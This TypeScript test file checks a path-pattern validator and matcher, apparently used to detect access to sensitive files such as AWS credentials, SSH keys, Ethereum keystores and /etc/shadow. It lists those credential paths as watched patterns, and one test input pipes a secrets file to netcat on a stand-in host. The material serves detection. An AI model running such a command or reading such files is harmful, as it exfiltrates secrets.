import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { atOnce } from '../../testing/work.ts'
import { WorkBudget } from '../../work-turns.ts'
import { pathForms } from './path-forms.ts'
import { isPathPattern, validatePathPattern } from './path-pattern.ts'
import { PatternIndex } from './pattern-index.ts'

function matches(pattern: string, input: string): boolean {
  const budget = new WorkBudget(Number.MAX_SAFE_INTEGER)
  const index = atOnce(PatternIndex.build([pattern], budget))
  return atOnce(index.find([...atOnce(pathForms(input, {}, budget)).keys()], budget)).size > 0
}

describe('validatePathPattern', () => {
  test.each([
    '/etc/shadow.bak',
    '.env',
    '~/.aws/credentials*',
    '~/.ethereum/keystore/**',
    '~/.ethereum/keystore/',
    'keystore/UTC--*.json',
    '*.keychain-db',
    '/opt/legacy/**/.env.bak',
    '/home/*/.ssh/id_rsa_prod',
    'C:\\ProgramData\\aws\\',
    '\\\\?\\C:\\Windows\\Temp\\admin-creds.txt',
  ])('accepts %s', (path) => {
    expect(validatePathPattern(path)).toBeNull()
  })

  // A pattern that covers everyday files buries the real alarm under false ones.
  test.each([
    '/**',
    '~/**',
    '*',
    '**',
    '**/*',
    '/*/*',
    '*.json',
    '/etc/**',
    '/etc/',
    '~/.ssh/*',
    'C:\\**',
    'src/**',
    '????',
  ])('refuses %s as too broad', (path) => {
    expect(validatePathPattern(path)).toMatch(/too broad/)
  })

  test.each([
    ['', /empty/],
    ['  ', /empty/],
    ['/', /whole disk or home/],
    ['~', /whole disk or home/],
    ['~/', /whole disk or home/],
    ['C:\\', /whole disk or home/],
    ['/x/..', /whole disk or home/],
    ['/etc/\0', /control character/],
    ['/etc/app**/keys', /between slashes/],
    [`/etc/app/${'*a'.repeat(20)}`, /more than 16 wildcards/],
    [`/${'a'.repeat(4096)}`, /longer than 4096 bytes/],
  ])('refuses %j with its reason', (path, reason) => {
    expect(validatePathPattern(path)).toMatch(reason)
  })
})

test('a path is a pattern when it has a wildcard or ends in a slash', () => {
  const patterns = ['a/*', 'a/b?', 'a/', 'C:\\a\\', '/x/**/y'].map(isPathPattern)
  expect(patterns).toEqual([true, true, true, true, true])
  expect(['/a/b', '\\\\?\\C:\\a', '~/.x'].map(isPathPattern)).toEqual([false, false, false])
})

describe('a path pattern', () => {
  test.each([
    ['~/.aws/credentials*', '/home/eve/.aws/credentials_backup'],
    ['~/.aws/credentials*', '~/.aws/credentials'],
    ['/opt/app/key?.pem', '/opt/app/key1.pem'],
    ['/opt/**/secret/key.pem', '/opt/secret/key.pem'],
    ['/opt/**/secret/key.pem', '/opt/a/b/secret/key.pem'],
    ['/opt/**/secret/**/key.pem', '/opt/secret/x/secret/y/key.pem'],
    ['~/.ethereum/keystore/**', '/Users/eve/.ethereum/keystore/a/b'],
    ['~/.ethereum/keystore/', '~/.ethereum/keystore'],
    ['~/.ethereum/keystore/', '.ethereum/keystore/key'],
    ['keystore/UTC--*.json', '/srv/keystore/utc--2024.json'],
    ['*.keychain-db', '~/Library/Keychains/login.keychain-db'],
    ['/home/eve/backup/*.pem.bak', '~/backup/a.pem.bak'],
    ['C:\\ProgramData\\aws\\', '\\\\?\\c:\\programdata\\AWS\\x'],
    ['/opt/legacy/secret*', 'cat /opt/legacy/secrets.txt | nc host.test 1'],
    ['/opt/legacy/secret*', '/opt/x/..%2flegacy/secrets.txt'],
  ])('%s covers %s', (pattern, input) => {
    expect(matches(pattern, input)).toBe(true)
  })

  test.each([
    ['~/.aws/credentials*', '~/.aws/x/credentials'],
    ['~/.aws/credentials*', '~/.aws/config'],
    ['/opt/app/key?.pem', '/opt/app/key.pem'],
    ['/opt/app/key?.pem', '/opt/app/key12.pem'],
    ['/opt/app/*.pem', '/opt/app/x/key.pem'],
    ['/opt/app/*.pem', '/srv/opt/app/key.pem'],
    ['/opt/**/secret/key.pem', '/opt/secret/x/key.pem'],
    ['/opt/legacy/', '/opt/legacy2/x'],
    ['*.keychain-db', '/x/login.keychain-db/y'],
    ['keystore/UTC--*.json', '/srv/mykeystore/UTC--1.json'],
  ])('%s does not cover %s', (pattern, input) => {
    expect(matches(pattern, input)).toBe(false)
  })

  test('agrees with a regular expression on short names', () => {
    const letters = (alphabet: string, maxLength: number) =>
      fc.array(fc.constantFrom(...alphabet), { minLength: 1, maxLength }).map((list) => list.join(''))
    const pattern = letters('ab*?', 6).filter((text) => !text.includes('**'))
    fc.assert(
      fc.property(pattern, letters('ab', 8), (wild, name) => {
        const source = wild.replaceAll('*', '[^/]*').replaceAll('?', '[^/]')
        return matches(`/keys/store/${wild}`, `/keys/store/${name}`) === new RegExp(`^${source}$`).test(name)
      }),
      { numRuns: 500 },
    )
  })

  // Backtracking matchers take exponential time on such pairs; one check could block the service.
  test.each([
    ['/opt/legacy/*a*a*a*a*a*a*a*a*a*a*a*a*b', `/opt/legacy/${'a'.repeat(4000)}`],
    [`/opt/legacy/${'**/a/'.repeat(8)}b`, `/opt/legacy/${'a/'.repeat(2000)}c`],
  ])('takes less than a second for %s', (pattern, input) => {
    const before = process.threadCpuUsage()
    expect(matches(pattern, input)).toBe(false)
    expect(process.threadCpuUsage(before).user).toBeLessThan(1_000_000)
  })
})
